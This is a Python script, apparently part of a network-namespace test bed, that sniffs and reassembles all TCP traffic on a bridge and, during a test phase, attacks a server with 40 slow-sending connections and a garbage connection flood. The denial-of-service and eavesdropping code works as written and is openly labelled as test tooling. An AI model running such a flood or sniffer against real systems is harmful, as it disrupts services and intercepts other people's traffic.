"""The stranger in the netns test bed's attacker namespace: sniffs every frame on
the (hub-mode) bridge and attacks the driver's server during the job's
``async-attacked`` phase.

    python netns_attacker.py --out DIR --target 198.51.100.1 [--seconds 600]

* Sniffer: a raw ``AF_PACKET`` socket; IPv4 TCP payloads are kept per flow
  (with the time of the flow's first packet) and written, reassembled by
  sequence number, to DIR/capture.json(.bin) when the attacker stops.
* Attack: once DIR/phases.jsonl names the attacked phase's port, 40 slow
  strangers (one byte every 2 s, never finishing a handshake) and a flood of
  connections sending garbage, until the phase ends. Counts go to
  DIR/attack.json.

Stops on SIGTERM, or by itself after ``--seconds``.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import socket
import struct
import threading
import time

ATTACKED = "async-attacked"
CAPTURE_LIMIT = 768 << 20  # payload bytes kept, at most


class Sniffer:
    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
        self.sock.settimeout(0.5)
        self.flows: dict = {}  # (src, sport, dst, dport) -> [first time, {seq: payload}]
        self.kept = self.dropped = self.packets = 0

    def run(self, stop: threading.Event) -> None:
        while not stop.is_set():
            try:
                frame = self.sock.recv(65536)
            except socket.timeout:
                continue
            self.packets += 1
            if len(frame) < 34 or frame[12:14] != b"\x08\x00":  # IPv4 only
                continue
            ip = frame[14:]
            header = (ip[0] & 0x0F) * 4
            if ip[9] != 6:  # TCP
                continue
            total = struct.unpack("!H", ip[2:4])[0]
            src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
            tcp = ip[header:total]
            sport, dport, seq = struct.unpack("!HHI", tcp[:8])
            payload = tcp[(tcp[12] >> 4) * 4:]
            if not payload:
                continue
            if self.kept + len(payload) > CAPTURE_LIMIT:
                self.dropped += len(payload)
                continue
            flow = self.flows.setdefault((src, sport, dst, dport), [time.time(), {}])
            if seq not in flow[1]:
                flow[1][seq] = bytes(payload)
                self.kept += len(payload)

    def save(self, out: str) -> None:
        index, offset = [], 0
        with open(os.path.join(out, "capture.bin"), "wb") as data:
            for (src, sport, dst, dport), (first, segments) in self.flows.items():
                stream = bytearray()
                expected = None
                for seq in sorted(segments):
                    payload = segments[seq]
                    if expected is not None and seq < expected:  # a retransmitted overlap
                        payload = payload[expected - seq:]
                    stream += payload
                    expected = max(expected or 0, seq + len(segments[seq]))
                data.write(stream)
                index.append(dict(src=src, sport=sport, dst=dst, dport=dport, first=first,
                                  offset=offset, size=len(stream)))
                offset += len(stream)
        with open(os.path.join(out, "capture.json"), "w") as meta:
            json.dump(dict(flows=index, packets=self.packets, dropped=self.dropped), meta)


def slow_stranger(address, stop: threading.Event, counts: dict) -> None:
    try:
        with socket.create_connection(address, timeout=5) as s:
            counts["slow_connected"] += 1
            connected = time.monotonic()
            s.settimeout(2)
            while not stop.is_set():
                s.sendall(b"G")
                try:
                    if s.recv(4096) == b"" and not stop.wait(0):
                        counts["slow_dropped"] += 1
                        counts["slow_held_seconds"].append(time.monotonic() - connected)
                        return
                except socket.timeout:
                    pass
    except OSError:
        counts["slow_dropped"] += 1


def flood(address, stop: threading.Event, counts: dict) -> None:
    garbage = os.urandom(300)
    while not stop.is_set():
        try:
            with socket.create_connection(address, timeout=2) as s:
                s.recv(1024)
                s.sendall(garbage)
                counts["flood_connections"] += 1
        except OSError:
            counts["flood_failed"] += 1


def attack(out: str, target: str, stop: threading.Event, counts: dict) -> None:
    path = os.path.join(out, "phases.jsonl")
    port = None
    while not stop.is_set() and port is None:
        if os.path.exists(path):
            for line in open(path):
                record = json.loads(line)
                if record.get("phase") == ATTACKED and "port" in record:
                    port = record["port"]
        time.sleep(0.05)
    if port is None:
        return
    counts["started"] = time.time()
    over = threading.Event()
    threads = [threading.Thread(target=slow_stranger, args=((target, port), over, counts),
                                daemon=True) for _ in range(40)]
    threads += [threading.Thread(target=flood, args=((target, port), over, counts),
                                 daemon=True) for _ in range(4)]
    for thread in threads:
        thread.start()
    while not stop.is_set():  # until the phase ends
        if any(json.loads(line).get("phase") == ATTACKED and json.loads(line).get("event")
               == "end" for line in open(path)):
            break
        time.sleep(0.2)
    over.set()
    counts["ended"] = time.time()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, default=600)
    args = parser.parse_args()
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    counts = dict(slow_connected=0, slow_dropped=0, flood_connections=0, flood_failed=0,
                  slow_held_seconds=[])
    sniffer = Sniffer()
    threads = [threading.Thread(target=sniffer.run, args=(stop,)),
               threading.Thread(target=attack, args=(args.out, args.target, stop, counts))]
    for thread in threads:
        thread.start()
    stop.wait(args.seconds)
    stop.set()
    for thread in threads:
        thread.join(10)
    sniffer.save(args.out)
    with open(os.path.join(args.out, "attack.json"), "w") as out:
        json.dump(counts, out)


if __name__ == "__main__":
    main()
